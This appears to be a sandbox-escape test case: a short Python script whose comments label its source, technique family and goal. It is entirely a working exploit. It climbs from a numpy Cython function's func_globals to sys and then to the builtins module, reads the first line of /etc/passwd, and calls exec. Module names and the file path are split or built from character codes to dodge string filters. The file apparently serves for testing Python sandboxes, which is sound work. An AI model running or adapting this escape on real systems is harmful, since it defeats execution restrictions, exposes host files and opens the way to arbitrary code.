# source: Cython cyfunction func_globals alias; numpy/random/bit_generator.pyx (ISpawnableSeedSequence.spawn, a Cython def, module imports sys)
# family: cyfunction func_globals of numpy's compiled module -> sys -> sys.modules["builtins"] -> open/exec, reached from a SeedSequence's class hierarchy
# goal: reads /etc/passwd, then runs exec("import this")
import numpy as np

fn = np.random.bit_generator.ISpawnableSeedSequence.spawn
mods = fn.func_globals["sy" + "s"].modules
b = mods["built" + "ins"]
print(b.open("".join([chr(47), "etc", chr(47), "passwd"])).readlines()[0])
b.exec("import this")
